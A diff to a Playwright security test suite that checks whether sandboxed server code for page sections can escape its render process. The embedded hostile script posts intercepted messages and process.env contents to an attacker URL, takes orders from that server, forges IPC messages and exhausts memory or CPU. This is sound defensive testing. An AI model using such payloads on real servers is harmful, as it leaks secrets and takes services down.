@@ -14,19 +14,18 @@ test.describe.configure({ mode: 'default', timeout: 120_000 });
 
 /** Runs in the render thread: `order` comes from the attacker's server at `url`. */
 const hostile = (url: string) => `
-const { parentPort, threadId } = process.getBuiltinModule('node:worker_threads');
 const report = (what) => fetch('${url}', { method: 'POST', body: JSON.stringify(what) });
-parentPort.on('message', (message) => report({ overheard: message }));
+process.on('message', (message) => report({ overheard: message }));
 const call = (address, body) => new Promise((resolve) => {
   const id = -Math.random();
   const onReply = (reply) => {
     if (reply.contentId !== id) return;
-    parentPort.off('message', onReply);
+    process.off('message', onReply);
     resolve(reply.failure ?? reply.answer.status);
   };
-  parentPort.on('message', onReply);
+  process.on('message', onReply);
   const write = body === undefined ? {} : { write: { headers: {}, body } };
-  parentPort.postMessage({ kind: 'content', id, address, ...write });
+  process.send({ kind: 'content', id, address, ...write });
 });
 const pause = () => new Promise((resolve) => setTimeout(resolve, 20));
 const held = [];
@@ -34,19 +33,17 @@ const orders = {
   environment: () => process.env,
   call: ({ address, body }) => call(address, body),
   signal: () => process.kill(process.pid, 'SIGTERM'),
-  inspect: () => new (process.getBuiltinModule('node:inspector').Session)().connect(),
-  binding: () => process.binding('inspector'),
-  debug: () => new (process.getBuiltinModule('node:inspector').Session)().connectToMainThread(),
   nonsense: () => {
     for (const posted of [null, 1, {}, { kind: 'loaded' }, { kind: 'ended', message: '' }, { kind: 'answer', id: 1, answer: {} }, { kind: 'uncaught', message: '' }])
-      parentPort.postMessage(posted);
+      process.send(posted);
   },
-  thread: () => 'thread ' + threadId,
+  thread: () => 'thread ' + process.pid,
+  table: () => { const table = new Map(); for (let n = 0; n < 5e7; n += 1) table.set(n, n); },
   heap: () => { for (let n = 0; n < 150; n += 1) held.push(new Array(1e6).fill(1.5)); },
   buffers: async () => { for (let n = 0; n < 24; n += 1) { held.push(Buffer.alloc(50e6, 1)); await pause(); } },
   loop: () => { for (;;); },
-  large: () => { for (let n = 0; n < 30; n += 1) parentPort.postMessage({ kind: 'content', id: n, address: '/'.repeat(1e6) }); },
-  flood: () => { for (;;) parentPort.postMessage({ kind: 'uncaught', message: 'x' }); },
+  large: () => { for (let n = 0; n < 30; n += 1) process.send({ kind: 'content', id: n, address: '/'.repeat(1e6) }); },
+  flood: () => { for (;;) process.send({ kind: 'uncaught', message: 'x' }); },
 };
 const obey = async () => {
   const order = await (await fetch('${url}')).json();
@@ -180,13 +177,12 @@ test('a section’s server code makes only the calls that it declares and is gra
 });
 
 test('a section’s server code can neither signal nor confuse the shell', async () => {
-  for (const name of ['signal', 'inspect', 'binding', 'debug'])
-    expect(await attack({ name })).toBe('Error: a section may not reach the process');
+  expect(await attack({ name: 'signal' })).toBe('Error: a section may not reach the process');
   await attack({ name: 'nonsense' });
   await expect.poll(shell.log).toContain('a message that is none of its own');
   expect([await statusOf('/hostil'), await statusOf('/contacto')]).toEqual([200, 200]);
   expect((await shell.readyz()).isReady).toBe(true);
-  figure('no signal sent, no debugger attached; 7 malformed or forged messages without effect');
+  figure('no signal sent; 7 malformed or forged messages without effect');
 });
 
 /** Two pages at once are rendered in different threads, unless one has yet to load. */
@@ -206,6 +202,7 @@ async function untilBothThreadsRender() {
 
 for (const [name, what] of [
   ['heap', 'fills the heap'],
+  ['table', 'fills the heap at once'],
   ['buffers', 'fills memory with buffers'],
   ['loop', 'loops'],
   ['large', 'posts large messages'],
